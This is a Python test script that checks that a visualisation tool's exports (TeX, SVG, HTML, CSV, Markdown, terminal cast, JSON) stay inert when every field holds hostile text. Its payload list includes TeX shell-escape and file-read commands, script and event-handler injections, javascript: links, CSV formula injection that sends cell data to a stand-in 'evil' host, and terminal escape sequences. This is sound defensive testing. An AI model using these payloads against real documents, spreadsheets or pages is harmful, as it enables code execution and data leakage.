# check_inert.py PROGRAM MAKE_HOSTILE: checks that exports run nothing in the programs that read them.
# Recordings with a hostile text in every field are exported in every format, and each export is
# read as usual: TeX is compiled (if pdflatex is installed), the rest is parsed.
import csv
import glob
import html.parser
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree

program, make_hostile = sys.argv[1:]
folder = tempfile.mkdtemp()

# Each text has EVIL in a place where a reader might execute something.
TEX = ("x\n\\immediate\\openout15=EVIL.txt \\immediate\\write15{EVIL}\\immediate\\closeout15\n"
       "\\immediate\\write18{touch EVIL.shell}\n\\input{/etc/hostname}")
TEXTS = [
    TEX, TEX.replace("\n", "\r"), TEX.replace("\n", "^^M"), TEX.replace("\n", "\v"),
    TEX.replace("\n", "\u2028"), TEX.replace("\n", "\u0085"),
    "}\\end{tikzpicture}\\immediate\\openout15=EVIL.txt \\immediate\\write15{EVIL}\\begin{tikzpicture}",
    "^^5cimmediate^^5copenout15=EVIL.txt %",
    "<script>EVIL()</script>", "\"><script>EVIL()</script>", "]]><script>EVIL()</script>",
    "-->\n<script>EVIL()</script>", "</title><script>EVIL()</script>", "</pre><script>EVIL()</script>",
    "' onload='EVIL()", "\" onload=\"EVIL()", "&lt;script&gt;", "&#60;script&#62;",
    "![x](http://evil/EVIL)", "[x](javascript:EVIL())", "<http://evil/EVIL>", "# EVIL",
    "`` ` ```\n# EVIL", "\n\n# EVIL\n\n- EVIL", "- EVIL", "1. EVIL", "| EVIL |\n|--|", "    EVIL", "***",
    "=HYPERLINK(\"http://evil/?\"&A1,\"EVIL\")", "+1+EVIL", "-1+EVIL", "@SUM(EVIL)", "\t=EVIL", "\r=EVIL",
    " =EVIL", "x;=EVIL", "x;\"=EVIL", "x;\t-EVIL", "＝EVIL", "\"=EVIL", "x\",=EVIL,\"", "x\n=EVIL",
    "\x1b]0;EVIL\x07", "\x1b[2J", "\x9b31m", "\ufffe\uffff", "\u202eEVIL", "\x00", "%n%s%s", "{}", "\\",
    "\nno difference\n", "\n0 findings\n",
]


def shflviz(*arguments, status=(0,)):
    result = subprocess.run([program, *arguments, "--lang", "en"], cwd=folder, stdin=subprocess.DEVNULL,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert result.returncode in status, (arguments, result.returncode, result.stderr)
    return result.stdout.decode()


def export(name, *arguments):
    """The exported file as text: valid UTF-8, without any character that a terminal would act on."""
    shflviz("export", "h.svt", "-o", name, *arguments)
    with open(os.path.join(folder, name), newline="", encoding="utf-8") as file:
        text = file.read()
    bad = re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text)
    assert not bad, (name, repr(text[max(0, bad.start() - 40):bad.end() + 10]))
    return text


# ---- TeX ----

def check_tex(names, compiled):
    """Apart from comments, the files contain only commands of our figures; a backslash in the text
    becomes a command that prints one. Only the texts that are TeX are compiled, since compiling is slow."""
    known = {"draw", "fill", "node", "begin", "end", "useasboundingbox", "bfseries", "ldots", "times",
             "fontsize", "ttfamily", "textbackslash", "textasciitilde", "textasciicircum",
             "textquotedbl", "textquotesingle", "textasciigrave", "textless", "textgreater", "textbar"}
    for name in names:
        with open(os.path.join(folder, name), encoding="utf-8") as file:
            lines = [line for line in file.read().split("\n") if not line.startswith("%")]
        for line in lines:
            used = set(re.findall(r"\\([A-Za-z]+)", line.replace("\\\\", "")))
            assert used <= known, (name, used - known)
            assert "^^" not in line, (name, line)
    if not shutil.which("pdflatex"):
        return "read; pdflatex is not here to compile it"
    body = "\n\n".join(r"\resizebox{\linewidth}{!}{\input{%s}}" % name for name in compiled)
    with open(os.path.join(folder, "all.tex"), "w", encoding="utf-8") as file:
        file.write("\\documentclass{article}\n\\usepackage[T1]{fontenc}\\usepackage{lmodern}"
                   "\\usepackage{textcomp}\\usepackage{tikz}\n\\begin{document}\n" + body +
                   "\n\\end{document}\n")
    result = subprocess.run(["pdflatex", "-shell-escape", "-interaction=nonstopmode", "all.tex"],
                            cwd=folder, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            errors="replace", encoding="utf-8")
    if "sty' not found" in result.stdout:
        return "read; LaTeX lacks tikz or lmodern here to compile it"
    assert "Output written" in result.stdout, result.stdout[-2000:]
    return "compiled with -shell-escape"


# ---- the others ----

def check_svg(text, name):
    """The file is well-formed and has only the elements and attributes of our figures."""
    root = xml.etree.ElementTree.fromstring(text)
    for element in root.iter():
        tag = element.tag.split("}")[-1]
        assert tag in ("svg", "title", "style", "rect", "path", "circle", "text", "tspan", "g", "polygon",
                       "polyline", "line", "animateMotion"), (name, tag)
        for key in element.keys():
            assert not key.lower().startswith("on") and "href" not in key, (name, key)
        assert tag == "text" or tag == "tspan" or tag == "title" or "EVIL" not in (element.text or ""), name


class Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.scripts, self.attributes, self.inside = [], [], None

    def handle_starttag(self, tag, attributes):
        self.inside = tag if tag in ("script", "style") else None
        self.attributes += [(tag, *pair) for pair in attributes]
        if tag == "script":
            self.scripts.append("")

    def handle_endtag(self, tag):
        self.inside = None

    def handle_data(self, data):
        if self.inside == "script":
            self.scripts[-1] += data


pages = []


def check_page(text):
    """A page has as many scripts as the first one; no attribute is an event handler or contains EVIL."""
    page = Page()
    page.feed(text)
    pages.append(len(page.scripts))
    assert len(set(pages)) == 1, pages
    assert not [a for a in page.attributes if a[1].startswith("on") or "EVIL" in (a[2] or "")]


def check_csv(text, text_in):
    for separator in ",", ";":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert separator == ";" or len(row) == 27, row
            for field in row:
                is_number = re.fullmatch(r"-?[\d. ]+|-?inf|-?nan", field)
                if separator == ";" and field == row[0]:
                    continue
                assert is_number or field.strip(" \t\r\n\"'")[:1] not in tuple("=+-@＝＋－＠") or \
                    field.lstrip(" \t\r\n").startswith("'"), (text_in, separator, field)


def check_markdown(text, text_in):
    """Each line begins like one of ours; code spans are closed; special characters are escaped."""
    for number, line in enumerate(text.split("\n")):
        begins = re.match(r"#+ |\s{4}|[-+*] |\d+[.)] |=+$|-+$|\*\*\*|[|]|```", line)
        ours = "# " if number == 0 else r"## Step \d+: \w+$|- \*\*[\w -]+\*\*: |\|.*\|$"
        assert not begins or re.match(ours, line), (text_in, line)
        outside = re.sub(r"\\.", "", re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", line))
        assert "<" not in outside and "&" not in outside and "](" not in outside, (text_in, line)
        assert "`" not in outside, (text_in, line)


def check_cast(text):
    """Each line is JSON; the only escape sequences are ours, which end in m, H, J, K, h or l."""
    lines = [json.loads(line) for line in text.splitlines()]
    for event in lines[1:]:
        kinds = re.findall(r"\x1b(.[^A-Za-z]*[A-Za-z]?)", event[2]) if event[1] == "o" else []
        assert all(re.fullmatch(r"\[[\d;?]*[mHJKhl]", kind) for kind in kinds), event
        assert event[1] == "o" or "\x1b" not in event[2], event


def check_lines(text_in):
    """Formats for people: no part of the hostile text begins a line that reads like one of ours."""
    shutil.copy(os.path.join(folder, "h.svt"), os.path.join(folder, "g.svt"))
    for said in shflviz("diff", "h.svt", "g.svt", "--format", "text"), shflviz("check", "h.svt", status=(0, 1)):
        for line in said.split("\n"):
            assert not line.startswith("EVIL") and line != "0 findings", (text_in, line)
    said = shflviz("diff", "h.svt", "one.svt", "--format", "text", status=(1,))
    assert "no difference" not in said.split("\n"), (text_in, said)




def main():
    subprocess.run([make_hostile, "one.svt", "one"], cwd=folder, check=True)
    figures = []
    for number, text in enumerate(TEXTS):
        subprocess.run([make_hostile, "h.svt", text.replace("\x00", "")], cwd=folder, check=True)
        for view in "lanes", "history", "source", "explain":
            if view == "history" or number < 2:
                figures.append(f"f{number}-{view}.tex")
                export(figures[-1], "--view", view)
            check_svg(export("f.svg", "--view", view), repr(text))
        check_svg(export("f.svg", "--view", "wires", "--animate", "--step", "0-2"), repr(text))
        check_csv(export("f.csv"), text)
        check_markdown(export("f.md"), text)
        shflviz("export", "h.svt", "-o", "f.cast")
        with open(os.path.join(folder, "f.cast"), encoding="utf-8") as file:
            check_cast(file.read())
        json.loads(export("f.json"))
        [json.loads(line) for line in export("f.jsonl").splitlines()]
        for form in "json", "sarif":
            json.loads(shflviz("check", "h.svt", "--format", form, status=(0, 1)))
        try:
            check_page(export("f.html"))
        except AssertionError as failed:
            if "built without the page" not in str(failed):
                raise
        check_lines(text)
    how = check_tex(figures, [name for name in figures if re.match(r"f[0-9]-", name)])
    made = [name for name in glob.glob(os.path.join(folder, "*")) if "EVIL" in name]
    assert not made, made
    print(f"{len(TEXTS)} hostile texts in every field and format; TeX {how}")


try:
    main()
finally:
    shutil.rmtree(folder)
